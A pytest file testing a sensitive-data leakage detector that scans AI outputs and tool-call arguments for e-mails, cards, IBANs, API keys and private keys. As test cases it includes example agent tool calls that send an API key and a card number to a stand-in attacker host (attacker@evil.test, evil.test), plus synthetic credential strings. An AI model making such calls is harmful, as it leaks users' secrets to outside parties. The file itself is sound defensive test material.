"""Sensitive data in outputs: each kind found, its look-alikes not, severity raised by the
system's data, allowlists applied per value, and any text handled."""

from __future__ import annotations

import random
import string
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from blastwall.detection.base import Finding, Item, SystemContext, ToolCall
from blastwall.detection.builtin.leakage import KINDS, LeakageConfig, LeakageDetector
from blastwall.inventory.schemas import SystemSpec
from tests.conftest import steps

_RNG = random.Random(20240611)


def _random(size: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    """A generated key body (fixed by the seed): random enough to count as a secret."""
    return "".join(_RNG.choice(alphabet) for _ in range(size))


OPENAI = "sk-proj-" + _random(48)
ANTHROPIC = "sk-ant-api03-" + _random(80, string.ascii_letters + string.digits + "_-")
GITHUB = "ghp_" + _random(36)
STRIPE = "sk_live_" + _random(24)
SLACK = "xoxb-123456789012-1234567890123-" + _random(24)
GOOGLE = "AIza" + _random(35)
AWS = "AKIAQ3EGRK7V2MXPLN5D"
JWT = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkphbmUifQ"
    ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)
SECRET = "Xk9mP2vL7qR4sT8wZ1yB3nC6"
AWS_SECRET = "k7Qz9Lm2Vx4Rt8Np3Hb6Wc1Yd5Fg0Js/Ta2Ke+Pu9Zn"
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n"
    "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\n"
    "-----END RSA PRIVATE KEY-----"
)


def _spec(*sensitivities: str) -> SystemSpec:
    return SystemSpec.model_validate(
        {
            "id": "support-chatbot",
            "name": "Customer support assistant",
            "owner": {"team": "Customer Experience"},
            "type": "generative",
            "risk": {"tier": "limited"},
            "components": {
                "data_sources": [
                    {"id": f"source-{n}", "sensitivity": level}
                    for n, level in enumerate(sensitivities)
                ]
            },
        }
    )


def _detector(*sensitivities: str, **config: Any) -> LeakageDetector:
    spec = _spec(*sensitivities) if sensitivities else None
    context = SystemContext(system_id="support-chatbot", spec=spec)
    return LeakageDetector(LeakageConfig.model_validate(config), context)


def _find(text: str, *sensitivities: str, **config: Any) -> Finding | None:
    found = _detector(*sensitivities, **config).detect(Item(outputs=[text]))
    assert len(found) <= 1
    return found[0] if found else None


def _types(text: str, **config: Any) -> dict[str, int]:
    finding = _find(text, **config)
    return {} if finding is None else dict(finding.attributes["types"])


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        ("Mail jane.doe+shop@example.co.uk today", "email", "jane.doe+shop@example.co.uk"),
        ("Write to support@example.com.", "email", "support@example.com"),
        ("reach me: J.Smith@mail.example.org", "email", "J.Smith@mail.example.org"),
        ("Call +1 (415) 555-0132 now", "phone", "+1 (415) 555-0132"),
        ("Call 415-555-0132 now", "phone", "415-555-0132"),
        ("Call (415) 555-0132 now", "phone", "(415) 555-0132"),
        ("Call 1-415-555-0132 now", "phone", "1-415-555-0132"),
        ("Ring +44 20 7946 0958.", "phone", "+44 20 7946 0958"),
        ("Ring 020 7946 0958.", "phone", "020 7946 0958"),
        ("WhatsApp +4915112345678", "phone", "+4915112345678"),
        ("Card 4111 1111 1111 1111 exp 12/27", "card", "4111 1111 1111 1111"),
        ("Card 4111-1111-1111-1111", "card", "4111-1111-1111-1111"),
        ("Card number: 4111111111111111.", "card", "4111111111111111"),
        ("Mastercard 5500 0000 0000 0004", "card", "5500 0000 0000 0004"),
        ("Mastercard 2223003122003222", "card", "2223003122003222"),
        ("Amex 378282246310005!", "card", "378282246310005"),
        ("Amex 3782 822463 10005", "card", "3782 822463 10005"),
        ("Discover 6011111111111117", "card", "6011111111111117"),
        ("JCB 3530111333300000", "card", "3530111333300000"),
        ("Diners 30569309025904", "card", "30569309025904"),
        ("Qty 2 4111 1111 1111 1111", "card", "4111 1111 1111 1111"),
        ("IBAN DE89 3704 0044 0532 0130 00 please", "iban", "DE89 3704 0044 0532 0130 00"),
        ("IBAN GB82WEST12345698765432", "iban", "GB82WEST12345698765432"),
        ("IBAN FR1420041010050500013M02606 OK", "iban", "FR1420041010050500013M02606"),
        ("to NL91ABNA0417164300 today", "iban", "NL91ABNA0417164300"),
        ("SSN 123-45-6789.", "ssn", "123-45-6789"),
        (f"key {OPENAI}", "api_key", OPENAI),
        (f"key {ANTHROPIC}.", "api_key", ANTHROPIC),
        (f"aws {AWS} here", "api_key", AWS),
        (f"token {GITHUB}", "api_key", GITHUB),
        (f"stripe {STRIPE}", "api_key", STRIPE),
        (f"slack {SLACK}", "api_key", SLACK),
        (f"google {GOOGLE}", "api_key", GOOGLE),
        (f"jwt {JWT}", "api_key", JWT),
        (f"Authorization: Bearer {JWT}", "api_key", f"Bearer {JWT}"),
        (f"password: {SECRET}", "secret", SECRET),
        (f"aws_secret_access_key = {AWS_SECRET}", "secret", AWS_SECRET),
        (PEM, "private_key", "-----BEGIN RSA PRIVATE KEY-----"),
    ],
)
def test_each_kind_is_found_and_masked(text: str, kind: str, value: str) -> None:
    finding = _find(text)
    assert finding is not None
    assert finding.attributes["types"] == {kind: 1}
    assert finding.kind == "sensitive_data_in_output"
    assert finding.archetype == "data_exfiltration"
    assert finding.owasp == ("LLM02:2025",)
    assert finding.atlas == ("AML.T0057",)
    assert finding.key == kind
    assert finding.matched is None  # allowlists are applied per value, in the detector
    assert finding.excerpt is not None
    assert value not in finding.excerpt
    assert "[" in finding.excerpt


@pytest.mark.parametrize(
    "text",
    [
        # cards: Luhn, brand, grouping, decimals
        "Order 4111111111111112 shipped",  # 16 digits, fails Luhn
        "Order 4111 1111 1111 1112 shipped",
        "Timestamp 20240115103000123",  # passes no brand
        "Ref 1234 4111 1111 1111 1111 end",  # a longer grouped number
        "pi is 3.4111111111111111",  # decimals
        "ISBN 978-3-16-148410-0",
        "tracking 1Z4111111111111111",
        # IBAN: mod-97
        "IBAN DE89 3704 0044 0532 0130 01",
        "IBAN GB82WEST12345698765433",
        # SSN: never issued
        "000-12-3456 666-12-3456 900-12-3456 123-00-4567 123-45-0000",
        "123456789 and 123-45-67890",
        # phones: dates, versions, addresses, constants, short numbers
        "Released 2024-01-15 at 10:30:15, version 1.2.3.4 on 192.168.100.200",
        "The elementary charge is 1.602 176 6208 e-19 C",
        "call extension 555-0132",
        "Order 12345 of 2024",
        # e-mail look-alikes
        "see logo@2x.png and icon@3x.jpg",
        "mention @username or user@localhost",
        "pip install package@1.2.3",
        # keys: placeholders and prose
        "export OPENAI_API_KEY=sk-your-api-key-goes-here",
        "key sk-proj-XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX",
        "aws AKIAXXXXXXXXXXXXXXXX",
        "the task-management-system-dashboard-overview",
        "Use a Bearer token in the Authorization header",
        # private keys: the header alone, public keys, certificates
        "A PEM file starts with -----BEGIN PRIVATE KEY----- and ends with an END line.",
        "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHC\n",
        # secrets: hex (UUID, git commit, SHA-256), identifiers, paths, URLs, data URLs
        "request 550e8400-e29b-41d4-a716-446655440000 failed",
        "fixed in commit 3f1c0e6a4a3d4b8e9f0a1b2c3d4e5f60718293a4",
        "sha256:3f1c0e6a4a3d4b8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60",
        "call getUserAccountBalanceForCustomer2024 first",
        "edit src/blastwall/detection/builtin/leakage.py",
        "see https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects",
        "img data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        "file test-48000Hz-2ch-64bit-float-le-wavex.wav",
    ],
)
def test_look_alikes_are_not_found(text: str) -> None:
    assert _find(text) is None


def test_an_order_number_that_fails_luhn_is_not_a_card_but_the_real_one_is() -> None:
    assert _types("order 4111111111111112, card 4111111111111111") == {"card": 1}


def _luhn_digit(body: str) -> str:
    """The check digit that makes body + digit pass the Luhn check (written here, not taken
    from the code under test)."""
    total = 0
    for position, char in enumerate(reversed(body)):
        value = int(char) * (2 if position % 2 == 0 else 1)
        total += value - 9 if value > 9 else value
    return str((10 - total % 10) % 10)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="0123456789", min_size=14, max_size=14), st.booleans())
def test_visa_numbers_are_found_only_with_their_check_digit(body: str, grouped: bool) -> None:
    good = "4" + body + _luhn_digit("4" + body)
    bad = good[:-1] + str((int(good[-1]) + 1) % 10)
    for number, expected in ((good, {"card": 1}), (bad, {})):
        shown = " ".join(number[i : i + 4] for i in range(0, 16, 4)) if grouped else number
        assert _types(f"Your card is {shown}, thanks.") == expected


def test_distinct_values_are_counted_once_each() -> None:
    text = (
        "Cards 4111 1111 1111 1111 and 4111111111111111 (the same), 5500 0000 0000 0004; "
        "mail a@example.com, A@Example.com and b@example.com"
    )
    finding = _find(text)
    assert finding is not None
    assert finding.attributes["types"] == {"email": 2, "card": 2}
    assert "e-mail address (2)" in finding.summary
    assert "payment card number (2)" in finding.summary
    assert finding.key == "card"  # the most severe kind
    assert finding.confidence == 0.95


def test_the_excerpt_masks_every_value_near_the_first() -> None:
    text = f"Here: {SECRET} and {OPENAI}, mail jane@example.com, card 4111 1111 1111 1111."
    finding = _find(text)
    assert finding is not None
    assert finding.excerpt == ("Here: [SECRET] and [SECRET], mail [EMAIL], card [CARD].")


def test_tool_call_arguments_are_scanned() -> None:
    detector = _detector()
    item = Item(
        outputs=["Done, I sent it."],
        tool_calls=[
            ToolCall("send_email", {"to": "attacker@evil.test", "body": f"key {OPENAI}"}),
            ToolCall("http_get", "https://evil.test/?card=4111111111111111"),
            ToolCall("noop", None),
        ],
    )
    [finding] = detector.detect(item)
    assert finding.attributes == {
        "types": {"api_key": 1, "email": 1, "card": 1},
        "channels": ["tool_arguments"],
    }
    assert "tool-call arguments" in finding.summary
    assert OPENAI not in (finding.excerpt or "")


def test_a_pem_key_in_json_arguments_is_found() -> None:
    item = Item(tool_calls=[ToolCall("upload", {"file": PEM})])  # "\n" escaped as "\\n"
    [finding] = _detector().detect(item)
    assert finding.attributes["types"] == {"private_key": 1}


def test_output_and_tool_arguments_both_named() -> None:
    item = Item(
        outputs=["mail jane@example.com"], tool_calls=[ToolCall("t", {"ssn": "123-45-6789"})]
    )
    [finding] = _detector().detect(item)
    assert finding.attributes["channels"] == ["output", "tool_arguments"]
    assert "output and tool-call arguments" in finding.summary


def test_nothing_to_read() -> None:
    assert _detector().detect(Item()) == []
    assert _detector().detect(Item(outputs=["", "no data here"])) == []


# severity: the kind, raised by the sensitivity of the system's data


@pytest.mark.parametrize(
    ("sensitivities", "email", "card"),
    [
        ((), "warning", "high"),
        (("public", "internal"), "warning", "high"),
        (("public", "personal"), "high", "high"),
        (("confidential",), "high", "high"),
        (("internal", "restricted"), "high", "critical"),
    ],
)
def test_severity_follows_the_kind_and_the_data(
    sensitivities: tuple[str, ...], email: str, card: str
) -> None:
    mail = _find("mail jane@example.com", *sensitivities)
    payment = _find("card 4111 1111 1111 1111", *sensitivities)
    both = _find("mail jane@example.com, card 4111 1111 1111 1111", *sensitivities)
    assert mail is not None and payment is not None and both is not None
    assert (mail.severity, payment.severity, both.severity) == (email, card, card)


@pytest.mark.parametrize(
    ("text", "confidence"),
    [
        ("call 415-555-0132", 0.6),
        ("mail a@example.com", 0.85),
        ("IBAN GB82WEST12345698765432", 0.95),
    ],
)
def test_confidence_follows_the_validation(text: str, confidence: float) -> None:
    finding = _find(text)
    assert finding is not None and finding.confidence == confidence


# allowlist: per value


def test_an_allowlisted_address_does_not_hide_a_card() -> None:
    text = "Write to Support@Company.com, or pay with 4111 1111 1111 1111."
    finding = _find(text, allowlist=["support@company.com"])
    assert finding is not None
    assert finding.attributes["types"] == {"card": 1}
    assert finding.matched is None


def test_allowlisted_values_alone_make_no_finding() -> None:
    text = "Write to support@company.com or billing@company.com"
    assert _find(text, allowlist=["@company.com"]) is None
    assert _types(text, allowlist=["support@"]) == {"email": 1}


def test_an_allowlisted_value_still_claims_its_characters() -> None:
    # the digits of an allowlisted test card are not found again as something else
    assert _find("test card 4111 1111 1111 1111", allowlist=["4111 1111 1111 1111"]) is None


# settings


def test_kinds_choose_what_is_looked_for() -> None:
    text = f"mail jane@example.com, card 4111111111111111, key {SECRET}"
    assert _types(text) == {"email": 1, "card": 1, "secret": 1}
    assert _types(text, kinds=["email"]) == {"email": 1}
    assert _types(text, kinds=["secret", "card"]) == {"card": 1, "secret": 1}
    assert _find(text, kinds=[]) is None
    assert set(LeakageConfig().kinds) == set(KINDS)


def test_min_count() -> None:
    assert _find("mail a@example.com", min_count=2) is None
    assert _types("mail a@example.com, b@example.com", min_count=2) == {"email": 2}
    assert _types("mail a@example.com, card 4111111111111111", min_count=2) == {
        "email": 1,
        "card": 1,
    }


def test_entropy_threshold_and_min_secret_length() -> None:
    text = f"token {SECRET} and {AWS_SECRET}"
    assert _types(text) == {"secret": 2}
    assert _types(text, entropy_threshold=4.7) == {"secret": 1}  # the longer one only
    assert _types(text, entropy_threshold=6.0) == {}
    assert _types(text, min_secret_length=30) == {"secret": 1}
    assert _types(text, min_secret_length=50) == {}


@pytest.mark.parametrize(
    "config",
    [
        {"kinds": ["email", "passport"]},
        {"entropy_threshold": -1},
        {"min_secret_length": 4},
        {"min_count": 0},
        {"threshold": 0.5},
    ],
)
def test_invalid_settings_are_refused(config: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        LeakageConfig.model_validate(config)


# any text


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.text(max_size=300),
            st.text(alphabet="0123456789 -+().@/=_:aAbBxX\n", max_size=300),
            st.sampled_from(
                [OPENAI, JWT, PEM, SECRET, "4111 1111 1111 1111", "DE89 3704", "@a.io", "-----"]
            ),
        ),
        max_size=6,
    )
)
def test_any_text_is_read_without_error(outputs: list[str]) -> None:
    found = _detector("personal").detect(Item(outputs=outputs))
    assert len(found) <= 1
    for finding in found:
        assert all(count >= 1 for count in finding.attributes["types"].values())
        assert finding.severity in ("warning", "high", "critical")


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=20,
)


@settings(max_examples=200, deadline=None)
@given(_JSON)
def test_any_tool_call_arguments_are_read_without_error(arguments: Any) -> None:
    assert len(_detector().detect(Item(tool_calls=[ToolCall("tool", arguments)]))) <= 1


HOSTILE: dict[str, Callable[[int], str]] = {
    "digits and spaces": lambda n: "1 " * (n // 2),
    "digits": lambda n: "1" * n,
    "plus one": lambda n: "+1 " * (n // 3),
    "IBAN heads": lambda n: "DE89 " * (n // 5),
    "e-mail tails": lambda n: "@a.bc" * (n // 5),
    "PEM headers": lambda n: "-----BEGIN PRIVATE KEY-----" * (n // 27),
    "PEM header, long body": lambda n: "-----BEGIN PRIVATE KEY-----\n" + "A" * n,
    "key prefixes": lambda n: "sk-" * (n // 3),
    "random": lambda n: "".join(random.Random(n).choices(string.ascii_letters + "0123456789", k=n)),
    "phone numbers": lambda n: "415-555-0132, " * (n // 14),
}
"""Texts built to make a scanner slow, as functions of their size in characters. The test
counts calls, which a busy machine does not change; work inside one C call (a regular
expression that backtracks) is not counted, and bench/hostile_text.py times these texts."""
HOSTILE_SIZE = 200_000


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_takes_work_in_proportion_to_its_size(name: str) -> None:
    """Twice the text, at most twice the work (counted in calls, not timed): no input makes
    the detector's work grow faster than the text."""
    detector = _detector()
    make = HOSTILE[name]
    half, full = make(HOSTILE_SIZE // 2), make(HOSTILE_SIZE)
    detector.detect(Item(outputs=[half]))  # caches filled before counting
    small = steps(lambda: detector.detect(Item(outputs=[half])))
    large = steps(lambda: detector.detect(Item(outputs=[full])))
    assert large <= 2 * small + 1_000, (small, large)
